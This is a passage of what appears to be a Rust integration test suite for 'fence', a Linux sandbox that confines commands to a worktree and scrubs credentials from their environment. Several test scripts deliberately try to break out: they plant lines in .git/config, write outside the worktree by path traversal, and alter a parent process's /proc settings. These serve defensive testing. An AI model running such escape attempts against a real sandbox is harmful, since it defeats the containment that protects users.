/// interface) is not drawn over its screen; the session's end, with the terminal the
/// user's again, says it.
fn refusals_hidden_while_the_program_held_the_terminal_are_said_at_the_end(w: &World) {
    let test = "refusals_hidden_while_the_program_held_the_terminal_are_said_at_the_end";
    if missing_tool(test, "script", "no script(1)") {
        return;
    }
    git_init(w);
    let config = std::fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    w.write(
        "tui.sh",
        "stty raw -echo; echo planted >> .git/config; sleep 0.3; stty sane; echo tui-done\n",
    );
    let fence = support::fence_binary().display().to_string();
    let inner = format!("{fence} run --approver deny -- /bin/sh tui.sh");
    let out = w
        .command_as_runner("script")
        .args(["-qec", &inner, "/dev/null"])
        .current_dir(&w.worktree)
        .output()
        .unwrap();
    let shown = stdout(&out);
    assert_unchanged(&w.worktree.join(".git/config"), &config);
    assert!(shown.contains("tui-done"), "{shown} {}", stderr(&out));
    let summary = shown
        .find("not shown while the program held the terminal")
        .unwrap_or_else(|| panic!("no summary at the end: {shown}"));
    assert!(
        shown[summary..].contains(".git/config"),
        "the summary does not name the refused write: {shown}"
    );
}

/// Everyday tools' caches (GOCACHE, PIP_CACHE_DIR and the others) are pointed at a
/// folder of fence's for this worktree in the user's home: private, kept for the next
/// session of the worktree, writable in the sandbox, and nothing beside it is.
fn tool_caches_live_in_a_folder_of_the_worktrees_own_kept_between_sessions(w: &World) {
    w.write(
        "cache.sh",
        "printf '%s\\n' \"$BLACK_CACHE_DIR\" \"$PYLINTHOME\"\n\
         mkdir -p \"$GOCACHE\" && echo built > \"$GOCACHE/entry\"\n\
         echo planted > \"$GOCACHE/../../beside\"\n\
         echo /elsewhere > \"$(dirname \"$GOCACHE\").worktree\"\n\
         echo planted > \"$GOCACHE/../../../elsewhere\"\n",
    );
    let out = w.run(&["/bin/sh", "cache.sh"]);
    let worktrees = w.home.join(".cache/fence/worktrees");
    // The worktree's folder, the record of its worktree's path beside it, the prune's stamp.
    let entries: Vec<std::path::PathBuf> = std::fs::read_dir(&worktrees)
        .unwrap_or_else(|e| panic!("{}: {e}; {}", worktrees.display(), stderr(&out)))
        .map(|e| e.unwrap().path())
        .collect();
    let folders: Vec<&std::path::PathBuf> = entries.iter().filter(|p| p.is_dir()).collect();
    assert_eq!(folders.len(), 1, "{entries:?}");
    assert_eq!(entries.len(), 3, "{entries:?}");
    let dir = folders[0];
    let mut record = dir.clone().into_os_string();
    record.push(".worktree");
    assert_eq!(
        std::fs::read(&record).unwrap(),
        w.worktree.canonicalize().unwrap().as_os_str().as_bytes(),
        "the record of the worktree's path was changed from inside"
    );
    assert!(worktrees.join(".pruned").is_file());
    assert_eq!(
        std::fs::read_to_string(dir.join("go-build/entry")).unwrap(),
        "built\n"
    );
    // black's and pylint's caches too (their defaults in `~/.cache` were asked about).
    assert_eq!(
        stdout(&out),
        format!(
            "{}\n{}\n",
            dir.join("black").display(),
            dir.join("pylint").display()
        )
    );
    assert!(!worktrees.join("beside").exists());
    assert!(!w.home.join(".cache/fence/elsewhere").exists());
    assert!(
        stderr(&out).contains("blocked write outside the worktree"),
        "{}",
        stderr(&out)
    );
    for d in [
        w.home.join(".cache"),
        w.home.join(".cache/fence"),
        worktrees.clone(),
        dir.clone(),
    ] {
        let m = std::fs::symlink_metadata(&d).unwrap();
        assert_eq!(m.permissions().mode() & 0o777, 0o700, "{}", d.display());
        assert_eq!(
            m.uid(),
            std::fs::metadata(&w.home).unwrap().uid(),
            "{}",
            d.display()
        );
    }
    // The next session of the worktree finds what the first left.
    w.write("again.sh", "cat \"$GOCACHE/entry\" > seen\n");
    let out = w.run(&["/bin/sh", "again.sh"]);
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("seen")).unwrap_or_default(),
        "built\n",
        "{}",
        stderr(&out)
    );
    // A variable the user set is left alone, and --no-tool-caches sets none.
    let out = w
        .fence(&[
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "-c".as_ref(),
            "echo mine > \"$GOCACHE\"".as_ref(),
        ])
        .env("GOCACHE", w.worktree.join("users-own"))
        .output()
        .unwrap();
    assert!(w.worktree.join("users-own").exists(), "{}", stderr(&out));
    let out = w.run(&["/bin/sh", "-c", "echo x > \"${PIP_CACHE_DIR:-pip-unset}\""]);
    assert!(!w.worktree.join("pip-unset").exists(), "{}", stderr(&out));
    let out = w
        .fence(&[
            "--no-tool-caches".as_ref(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "-c".as_ref(),
            "echo x > \"${PIP_CACHE_DIR:-pip-unset}\"".as_ref(),
        ])
        .output()
        .unwrap();
    assert!(w.worktree.join("pip-unset").exists(), "{}", stderr(&out));
}

/// An interactive shell's history (and less's, node's, sqlite3's…) is kept in the
/// worktree's cache folder: leaving bash is not a write outside the worktree (with a person
/// at the terminal, a question that held `exit` until it was answered), and the home is
/// untouched.
fn an_interactive_shells_history_is_kept_in_the_worktrees_cache_folder(w: &World) {
    use std::io::Write;
    let mut child = w
        .fence(&[
            "--".as_ref(),
            "/bin/bash".as_ref(),
            "--norc".as_ref(),
            "-i".as_ref(),
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"echo typed-in-the-sandbox\nexit 3\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(!stderr(&out).contains("fence: blocked"), "{}", stderr(&out));
    assert!(!w.home.join(".bash_history").exists());
    let worktrees = w.home.join(".cache/fence/worktrees");
    let kept: Vec<String> = std::fs::read_dir(&worktrees)
        .unwrap_or_else(|e| panic!("{}: {e}; {}", worktrees.display(), stderr(&out)))
        .map(|e| {
            std::fs::read_to_string(e.unwrap().path().join("bash_history")).unwrap_or_default()
        })
        .collect();
    assert!(
        kept.iter().any(|h| h.contains("echo typed-in-the-sandbox")),
        "{kept:?} {}",
        stderr(&out)
    );
}

/// fence raises its own limit of open files for what it keeps per thread; the sandbox keeps
/// the soft limit it was started with (seen from outside: the limits of the sandboxed
/// process in /proc, read while it waits).
fn the_sandbox_keeps_the_open_files_limit_it_was_given(w: &World) {
    use std::os::unix::process::CommandExt;
    w.write(
        "wait.py",
        "import sys, time\nprint('up', flush=True)\ntime.sleep(30)\n",
    );
    let mut cmd = w.fence(&["--", PYTHON, "wait.py"].map(OsStr::new));
    // SAFETY: setrlimit is async-signal-safe; it runs in the child before exec.
    unsafe {
        cmd.pre_exec(|| {
            let mut limit = libc::rlimit {
                rlim_cur: 0,
                rlim_max: 0,
            };
            libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit);
            limit.rlim_cur = 777.min(limit.rlim_max);
            if libc::setrlimit(libc::RLIMIT_NOFILE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.as_mut().unwrap()),
        &mut line,
    )
    .unwrap();
    assert_eq!(line, "up\n");
    let soft = |pid: i32| -> Option<String> {
        let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).ok()?;
        let row = limits.lines().find(|l| l.starts_with("Max open files"))?;
        row.split_whitespace().nth(3).map(str::to_string)
    };
    let fence_soft = soft(child.id() as i32);
    let sandboxed = descendants_of(child.id() as i32)
        .into_iter()
        .filter(|pid| {
            std::fs::read_to_string(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| c.contains("wait.py"))
        })
        .map(|pid| (pid, soft(pid)))
        .collect::<Vec<_>>();
    child.kill().unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        !sandboxed.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (pid, limit) in sandboxed {
        assert_eq!(limit.as_deref(), Some("777"), "pid {pid}");
    }
    assert_ne!(fence_soft.as_deref(), Some("777"), "fence raised its own");
}

fn credentials_are_scrubbed_from_the_environment(w: &World) {
    let log = w.home.join("audit.jsonl");
    let out = w
        .fence(&[
            "--log".as_ref(),
            log.as_os_str(),
            "--env".as_ref(),
            "PASSED_TOKEN".as_ref(),
            "--".as_ref(),
            "/usr/bin/env".as_ref(),
        ])
        .env("GITHUB_TOKEN", "ghp-secret")
        .env("MY_API_KEY", "k-secret")
        .env("DB_PASS", "pass-secret")
        .env("DATABASE_URL", "postgres://app:url-secret@db:5432/app")
        .env("GIT_AUTHOR_NAME", "Kept Author")
        .env("PASSED_TOKEN", "passed-on-purpose")
        .output()
        .unwrap();
    let text = stdout(&out);
    for secret in ["ghp-secret", "k-secret", "pass-secret", "url-secret"] {
        assert!(!text.contains(secret), "{secret} leaked: {text}");
    }
    assert!(text.contains("GIT_AUTHOR_NAME=Kept Author"), "{text}");
    // The audit log names what was removed, never a value.
    let start = std::fs::read_to_string(&log).unwrap_or_default();
    let start = start.lines().next().unwrap_or_default();
    for name in ["\"GITHUB_TOKEN\"", "\"DB_PASS\"", "\"DATABASE_URL\""] {
        assert!(start.contains(name), "{name} not in {start}");
    }
    assert!(
        !start.contains("url-secret") && !start.contains("PASSED_TOKEN"),
        "{start}"
    );
    assert!(text.contains("PASSED_TOKEN=passed-on-purpose"), "{text}");
    // The session TMPDIR: without a mount namespace a directory in /tmp; with one, a tmpfs
    // mounted on a directory made in the host's /dev/shm where that is a tmpfs (kernels
    // before 5.12 run without namespaces).
    let tmpdir = text
        .lines()
        .find_map(|l| l.strip_prefix("TMPDIR="))
        .unwrap_or_else(|| panic!("no TMPDIR: {text}"));
    let name = Path::new(tmpdir)
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or_default();
    let bases: &[&str] = if w.who == support::Who::UnprivilegedWithoutNamespaces {
        &["/tmp"]
    } else {
        &["/dev/shm", "/tmp"]
    };
    assert!(
        name.starts_with("fence-")
            && bases
                .iter()
                .any(|b| Path::new(tmpdir).parent() == Some(Path::new(b))),
        "TMPDIR={tmpdir}, expected fence-<uid>-… in {bases:?}"
    );
}

/// FIFOs and descriptor flags survive the writes the supervisor carries out (without a
/// mount view every write inside is one): a writer waits for its reader, a reader for its
/// writer, and while one waits the rest of the sandbox goes on (another process creates a
/// file, which needs the supervisor too); a file opened for writing has exactly the flags
/// asked for (O_NONBLOCK not among them), and its mode follows the caller's umask.
/// The supervisor keeps each thread's umask between the creates it carries out; a umask
/// changed by the process itself, by another of its threads or in a child must still give
/// every later file and directory its mode. Modes are read from outside.
fn umask_changes_reach_carried_out_creates(w: &World) {
    let out = w.python(
        r#"import os, threading
os.umask(0o022); open("m1", "w").close()
os.umask(0o077); open("m2", "w").close(); os.mkdir("d2")
t = threading.Thread(target=lambda: os.umask(0o027)); t.start(); t.join()
open("m3", "w").close(); os.mkdir("d3")
if os.fork() == 0:
    os.umask(0o002); open("m4", "w").close(); os._exit(0)
os.wait()
open("m5", "w").close()
old = os.umask(0); os.umask(old); open("m6", "w").close()
print("done")
"#,
    );
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    let mode = |name: &str| {
        std::fs::metadata(w.worktree.join(name))
            .unwrap_or_else(|e| panic!("{name}: {e}: {}", stderr(&out)))
            .permissions()
            .mode()
            & 0o777
    };
    let want = [
        ("m1", 0o644),
        ("m2", 0o600),
        ("d2", 0o700),
        ("m3", 0o640),
        ("d3", 0o750),
        ("m4", 0o664),
        ("m5", 0o640),
        ("m6", 0o640),
    ];
    for (name, expected) in want {
        assert_eq!(mode(name), expected, "{name}: {}", stderr(&out));
    }
}

/// A process sharing its parent's memory (`vfork`) writes names from that memory, then
/// execs a program that writes other names at the same address: every write, the calls
/// the supervisor carries out included (a chmod, an open at the worktree's root), reaches
/// the name the running program passed, never the one in the memory it had before its
/// exec (which its parent still holds).
fn writes_read_the_memory_of_the_program_running_after_vfork_and_exec(w: &World) {
    if !cc_ready("writes_read_the_memory_of_the_program_running_after_vfork_and_exec") {
        return;
    }
    w.compile_c(
        "vfexec",
        r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#define AT ((void *)0x7e0000000000UL)
static char *page(void) {
    char *p = mmap(AT, 4096, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (p != AT) { perror("mmap"); _exit(2); }
    return p;
}
static int append(const char *name, const char *text) {
    int fd = open(name, O_WRONLY | O_APPEND);
    if (fd < 0) { perror(name); return -1; }
    int ok = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    close(fd);
    return ok ? 0 : -1;
}
int main(int argc, char **argv) {
    if (argc > 1) {
        /* The new image, in the vfork child: its own name at the same address. */
        char *p = page();
        strcpy(p, "right");
        const mode_t modes[] = {0600, 0604, 0606};
        for (int i = 0; i < 3; i++) {
            if (chmod(p, modes[i]) != 0) { perror("chmod"); return 3; }
            if (append(p, "new image\n") != 0) return 3;
        }
        return 0;
    }
    char *p = page();
    strcpy(p, "victim");
    pid_t pid = vfork();
    if (pid == 0) {
        /* Writes with the name in the memory shared with the parent, then the exec. */
        for (int i = 0; i < 3; i++) {
            int fd = open(p, O_WRONLY | O_APPEND);
            if (fd >= 0) close(fd);
        }
        chmod(p, 0644);
        execl("./vfexec", "vfexec", "child", (char *)0);
        _exit(127);
    }
    int st;
    if (waitpid(pid, &st, 0) != pid) return 4;
    printf("child %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : 128);
    return 0;
}
"#,
    );
    use std::os::unix::fs::PermissionsExt;
    for name in ["victim", "right"] {
        let path = w.worktree.join(name);
        std::fs::write(&path, "").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        w.own(&path);
    }
    let out = w.run(&["./vfexec"]);
    assert_eq!(stdout(&out), "child 0\n", "{}", stderr(&out));
    let mode = |name: &str| {
        std::fs::metadata(w.worktree.join(name))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("right"), 0o606, "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("right")).unwrap(),
        "new image\n".repeat(3)
    );
    assert_eq!(mode("victim"), 0o644, "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("victim")).unwrap(),
        ""
    );
}

/// The supervisor keeps each thread's cwd between its writes: every way a process's cwd
/// or the path naming it changes (`chdir`, `fchdir`, a rename of the folder it is in,
/// another thread's `chdir`, a child's `CLONE_FS`-shared one) is followed, so each write
/// lands where the process meant, in a folder Landlock grants whole (`src`) or at the
/// worktree's root, which the supervisor writes for it.
fn writes_follow_every_change_of_the_working_directory(w: &World) {
    w.mkdir("src/sub");
    w.mkdir("lib");
    let out = w.python(
        r#"import ctypes, errno, os, threading
def put(name, text):
    # Three times: the first places the name against the cwd read for it, the next
    # against the kept one, the last in the kept one's descriptor.
    for _ in range(3):
        with open(name, "w") as f: f.write(text)
os.chdir("src"); put("a", "1"); put("a2", "1")
# Calls the supervisor may carry out itself, made once each with a cwd kept.
try:
    os.setxattr("a", "user.fence", b"1", os.XATTR_CREATE)
    os.setxattr("a2", "user.fence", b"2", os.XATTR_CREATE)
    os.removexattr("a2", "user.fence")
    print("xattrs")
except OSError as e:
    if e.errno != errno.EOPNOTSUPP: raise
os.chdir(".."); put("b", "2")
fd = os.open("lib", os.O_RDONLY); os.fchdir(fd); os.close(fd); put("c", "3")
os.chdir(".."); put("d", "4")
os.chdir("src/sub"); put("e", "5")
os.rename("../sub", "../../moved"); put("f", "6")
os.chdir("../src"); put("g", "7")
t = threading.Thread(target=lambda: os.chdir("..")); t.start(); t.join(); put("h", "8")
t = threading.Thread(target=lambda: os.chdir("lib")); t.start(); t.join(); put("i", "9")
# A child sharing the filesystem context (CLONE_FS | SIGCHLD) changes the cwd of both.
libc = ctypes.CDLL(None, use_errno=True)
pid = libc.syscall(56, 0x200 | 17, 0, 0, 0, 0)
if pid == 0:
    os.chdir(".."); os._exit(0)
os.waitpid(pid, 0); put("j", "10")
print("done")
"#,
    );
    let err = stderr(&out);
    let text = stdout(&out);
    assert!(text.ends_with("done\n"), "{text}{err}");
    if text.starts_with("xattrs") {
        assert_eq!(
            xattr(&w.worktree.join("src/a"), "user.fence"),
            Some(b"1".to_vec())
        );
        assert_eq!(xattr(&w.worktree.join("src/a2"), "user.fence"), None);
    }
    for (path, text) in [
        ("src/a", "1"),
        ("src/a2", "1"),
        ("b", "2"),
        ("lib/c", "3"),
        ("d", "4"),
        ("moved/e", "5"),
        ("moved/f", "6"),
        ("src/g", "7"),
        ("h", "8"),
        ("lib/i", "9"),
        ("j", "10"),
    ] {
        assert_eq!(
            std::fs::read_to_string(w.worktree.join(path))
                .ok()
                .as_deref(),
            Some(text),
            "{path}: {err}"
        );
    }
    for stray in [
        "src/b", "b/c", "lib/d", "src/sub", "src/h", "src/i", "lib/j",
    ] {
        assert!(!w.worktree.join(stray).exists(), "{stray}: {err}");
    }
    // With writes left to Landlock no chdir is notified: nothing may be kept then.
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        support::skip(
            "without_namespaces::writes_follow_every_change_of_the_working_directory",
            "--no-write-watch needs a mount namespace: its part is not run",
        );
        return;
    }
    w.write(
        "probe2.py",
        "import os\nos.chdir('lib'); os.chmod('c', 0o600)\nos.chdir('..'); os.chmod('d', 0o640)\nos.chdir('src'); os.chmod('a', 0o604)\nprint('done')\n",
    );
    let out = w
        .fence(&["--no-write-watch", "--", PYTHON, "probe2.py"].map(OsStr::new))
        .output()
        .unwrap();
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    for (path, mode) in [
        ("lib/c", 0o600),
        ("d", 0o640),
        ("src/a", 0o604),
        ("b", 0o644),
    ] {
        let meta = std::fs::metadata(w.worktree.join(path)).unwrap();
        assert_eq!(
            meta.permissions().mode() & 0o777,
            mode,
            "{path}: {}",
            stderr(&out)
        );
    }
}

/// A bare repository's `config` is protected by the `HEAD` beside it, in the folder the
/// path really names. A process whose kept cwd is such a folder, renamed by another session
/// of the same worktree, still cannot write its `config` by a relative name.
fn a_kept_cwd_renamed_by_another_session_reaches_no_git_control_file(w: &World) {
    git_init(w);
    let bare = w.mkdir("top/fixture.git");
    support::git(&bare, &["init", "-q", "--bare"]);
    chown_tree(w, &w.worktree.join("top"));
    let config = std::fs::read_to_string(bare.join("config")).unwrap();
    w.write(
        "a.py",
        r##"import os, time
os.chdir("top/fixture.git")
with open("description", "a") as f: f.write("kept\n")
deadline = time.time() + 30
while not os.path.exists("../../go") and time.time() < deadline: time.sleep(0.01)
try:
    with open("config", "a") as f: f.write("#STALE\n")
    print("written")
except OSError as e:
    print("refused", e.errno)
"##,
    );
    let a = w
        .fence(&["--", PYTHON, "a.py"].map(OsStr::new))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while !std::fs::read_to_string(bare.join("description")).is_ok_and(|d| d.contains("kept"))
        && started.elapsed() < Duration::from_secs(30)
    {
        std::thread::sleep(Duration::from_millis(10));
    }
    let b = w.run(&["/bin/sh", "-c", "mv top/fixture.git top/fx2 && touch go"]);
    assert!(w.worktree.join("top/fx2/HEAD").exists(), "{}", stderr(&b));
    let out = a.wait_with_output().unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(text.starts_with("refused"), "{text}{err}");
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("top/fx2/config")).unwrap(),
        config,
        "{err}"
    );
}

/// The value of extended attribute `name` of `path`, read from outside.
fn xattr(path: &Path, name: &str) -> Option<Vec<u8>> {
    let p = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    let n = std::ffi::CString::new(name).unwrap();
    let mut buf = [0u8; 256];
    // SAFETY: NUL-terminated strings and a buffer of the given length.
    let len = unsafe { libc::getxattr(p.as_ptr(), n.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    (len >= 0).then(|| buf[..len as usize].to_vec())
}

/// A descriptor link to a file that has lost its name reads `/path (deleted)`: a create
/// through it must not make a file of that name (nor anything else).
fn a_descriptor_link_to_a_removed_file_makes_no_file(w: &World) {
    let out = w.python(
        r#"import os
fd = os.open("gone", os.O_WRONLY | os.O_CREAT, 0o644)
os.unlink("gone")
try:
    os.close(os.open("/proc/self/fd/%d" % fd, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644))
    print("opened")
except OSError as e:
    print("refused", e.errno)
"#,
    );
    let names: Vec<String> = std::fs::read_dir(&w.worktree)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !names.iter().any(|n| n.contains("gone")),
        "a file was made from the link's text: {names:?} {}",
        stderr(&out)
    );
    assert!(
        stdout(&out).starts_with("opened") || stdout(&out).starts_with("refused"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
}

/// A process names itself in /proc by the pid its own /proc shows (its pid namespace's):
/// a create through `/proc/<getpid()>/fd/N` reaches the file behind that descriptor.
fn a_write_through_the_callers_own_proc_pid_reaches_its_file(w: &World) {
    let out = w.python(
        r#"import os
fd = os.open("out.txt", os.O_WRONLY | os.O_CREAT, 0o644)
link = "/proc/%d/fd/%d" % (os.getpid(), fd)
with open(link, "w") as f:
    f.write("through\n")
"#,
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("out.txt"))
            .ok()
            .as_deref(),
        Some("through\n"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
}

/// A process may write its own settings in /proc (every JVM writes `coredump_filter` at
/// start; `oom_score_adj`, `comm`): read from outside, in the process's /proc entry while
/// it waits. Another process's entry stays out of reach: its parent's `oom_score_adj` is
/// unchanged, and a value the kernel refuses without a capability (lowering
/// `oom_score_adj`) is still refused.
fn a_process_writes_its_own_proc_settings_but_no_others(w: &World) {
    w.write(
        "knobs.py",
        r#"import os, time
def attempt(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return "ok"
    except OSError as e:
        return "errno %d" % e.errno
r = [
    attempt("/proc/self/coredump_filter", "0x3f"),
    attempt("/proc/self/oom_score_adj", "517"),
    attempt("/proc/thread-self/comm", "fence-knobs"),
    attempt("/proc/self/oom_score_adj", "-900"),
    attempt("/proc/%d/oom_score_adj" % os.getppid(), "733"),
]
with open("started", "w") as f:
    f.write(" ".join(r))
while not os.path.exists("go"):
    time.sleep(0.02)
"#,
    );
    let mut child = w
        .fence(&["--".as_ref(), PYTHON.as_ref(), "knobs.py".as_ref()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    await_started(w, &mut child);
    let descendants = descendants_of(child.id() as i32);
    let read = |pid: i32, name: &str| {
        std::fs::read_to_string(format!("/proc/{pid}/{name}"))
            .unwrap_or_default()
            .trim()
            .to_string()
    };
    let program = descendants
        .iter()
        .copied()
        .find(|p| read(*p, "comm") == "fence-knobs");
    let seen = program.map(|p| {
        let ppid: i32 = read(p, "stat")
            .rsplit(')')
            .next()
            .and_then(|rest| rest.split_whitespace().nth(1))
            .and_then(|v| v.parse().ok())
            .unwrap_or(0);
        (
            read(p, "coredump_filter"),
            read(p, "oom_score_adj"),
            read(ppid, "oom_score_adj"),
        )
    });
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let err = stderr(&out);
    let reported = std::fs::read_to_string(w.worktree.join("started")).unwrap_or_default();
    let Some((filter, score, parents)) = seen else {
        panic!("no process named fence-knobs among {descendants:?}: {reported} {err}");
    };
    assert_eq!(filter, "0000003f", "{reported} {err}");
    assert_eq!(score, "517", "{reported} {err}");
    assert_ne!(
        parents, "733",
        "the parent's setting was changed: {reported} {err}"
    );
    assert!(
        !err.contains("coredump_filter") && !err.contains("comm"),
        "a refusal of the process's own setting: {err}"
    );
    assert_eq!(out.status.code(), Some(0), "{err}");
}

fn fifos_flags_and_umask_survive_carried_out_opens(w: &World) {
    if !python_ready("fifos_flags_and_umask_survive_carried_out_opens") {
        return;
    }
    w.write(
        "fifo.py",
        r#"import os, errno, fcntl, time, subprocess
os.mkfifo("p")
os.mkfifo("q")
# A writer that waits for its reader, while the rest of the sandbox creates a file.
writer = subprocess.Popen(["/bin/sh", "-c", "echo through-p > p"])
time.sleep(1)
open("made-while-waiting", "w").write("x")
with open("p") as r:
    got_p = r.read()
writer.wait()
# A reader that creates-or-opens (O_CREAT) and waits for its writer.
reader = subprocess.Popen([
    "/usr/bin/python3", "-c",
    "import os; fd = os.open('q', os.O_RDONLY | os.O_CREAT, 0o644); print(os.read(fd, 100).decode(), end='')",
], stdout=subprocess.PIPE)
time.sleep(0.3)
with open("q", "w") as wq:
    wq.write("through-q")
got_q = reader.communicate()[0].decode()
fd = os.open("f", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
nonblock = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_NONBLOCK
os.close(fd)
# Flags asked for are kept: O_NONBLOCK, O_APPEND.
fd = os.open("h", os.O_WRONLY | os.O_CREAT | os.O_NONBLOCK, 0o666)
asked = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_NONBLOCK != 0
os.close(fd)
fd = os.open("f", os.O_WRONLY | os.O_APPEND)
append = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_APPEND != 0
os.close(fd)
# A non-blocking writer of a FIFO without a reader gets ENXIO, as without fence.
try:
    os.open("p", os.O_WRONLY | os.O_NONBLOCK | os.O_CREAT)
    enxio = "no-error"
except OSError as e:
    enxio = "enxio" if e.errno == errno.ENXIO else "errno-%d" % e.errno
os.umask(0o027)
fd = os.open("g", os.O_WRONLY | os.O_CREAT, 0o666)
os.close(fd)
print(got_p.strip(), got_q, "nonblock=%d" % nonblock, asked, append, enxio)
"#,
    );
    let out = w.run(&[PYTHON, "fifo.py"]);
    assert_eq!(
        stdout(&out).trim(),
        "through-p through-q nonblock=0 True True enxio",
        "{}",
        stderr(&out)
    );
    assert!(w.worktree.join("made-while-waiting").exists());
    // Checked from outside: the mode the caller's umask gives.
    let mode = std::fs::metadata(w.worktree.join("g")).unwrap().mode() & 0o777;
    assert_eq!(mode, 0o640, "mode {mode:o}");
}

/// With a mount namespace the session TMPDIR is a tmpfs of the sandbox's own, mounted on a
/// directory made in the host's /dev/shm when that is a tmpfs directory (no disk I/O to
/// make and remove it): while the command runs, the host sees that directory empty and
/// the file the command wrote nowhere; afterwards the directory is gone.
fn session_tmpdir_is_a_private_mount_on_a_dev_shm_directory(w: &World) {
    w.write(
        "t.sh",
        "echo \"$TMPDIR\" > tmpdir-name\nreadlink /proc/self/ns/mnt > mnt-ns\necho secret-data > \"$TMPDIR/f\"\ntouch ready\nwhile [ ! -e go ]; do sleep 0.05; done\n",
    );
    let child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "t.sh".as_ref()])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while !w.worktree.join("ready").exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "the command did not start"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let tmpdir = std::fs::read_to_string(w.worktree.join("tmpdir-name")).unwrap();
    let tmpdir = Path::new(tmpdir.trim());
    let inside_ns = std::fs::read_to_string(w.worktree.join("mnt-ns")).unwrap();
    let own_ns = std::fs::read_link("/proc/self/ns/mnt").unwrap();
    let mount_namespace = inside_ns.trim() != own_ns.to_string_lossy();
    let shm = Path::new("/dev/shm");
    // SAFETY: statfs fills a zeroed struct from a NUL-terminated path. (f_type's type
    // differs between architectures; the cast is needed on some.)
    #[allow(clippy::unnecessary_cast)]
    let shm_is_tmpfs = shm.symlink_metadata().is_ok_and(|m| m.is_dir())
        && unsafe {
            let mut fs: libc::statfs = std::mem::zeroed();
            libc::statfs(c"/dev/shm".as_ptr(), &mut fs) == 0
                && fs.f_type as i64 == libc::TMPFS_MAGIC as i64
        };
    if mount_namespace && shm_is_tmpfs {
        assert_eq!(tmpdir.parent(), Some(shm), "TMPDIR {}", tmpdir.display());
        let listed: Vec<_> = std::fs::read_dir(tmpdir).unwrap().collect();
        assert!(
            listed.is_empty(),
            "the host sees the sandbox's TMPDIR: {listed:?}"
        );
    } else {
        assert_ne!(tmpdir.parent(), Some(shm), "TMPDIR {}", tmpdir.display());
        if !mount_namespace {
            assert!(tmpdir.join("f").exists(), "no mount namespace, yet no file");
        }
    }
    std::fs::write(w.worktree.join("go"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!tmpdir.exists(), "session TMPDIR left behind");
}

/// With a mount namespace the sandbox's `/tmp` is its own (SPEC §2): a program that writes
/// `/tmp` by name (a JVM's hsperfdata, a script's `/tmp/out`) works, the host's `/tmp`
/// gets nothing and its files are out of sight, and the writes are gone with the
/// session. `--host-tmp` keeps the host's, where the write is refused; so does a host
/// without namespaces. Run in a worktree and home outside `/tmp` (the World's lie in it,
/// which keeps the host's `/tmp` for the session).
fn tmp_is_private_where_a_mount_namespace_can_be_made(w: &World) {
    let base = tempfile::Builder::new()
        .prefix("fence-it-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let (wt, home) = (base.path().join("wt"), base.path().join("home"));
    for d in [base.path(), &wt, &home] {
        std::fs::create_dir_all(d).unwrap();
        w.own(d);
    }
    let unique = format!(
        "fence-it-private-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    )
    .replace(|c: char| !c.is_ascii_alphanumeric() && c != '-', "");
    let marker = Path::new("/tmp").join(format!("{unique}-host.txt"));
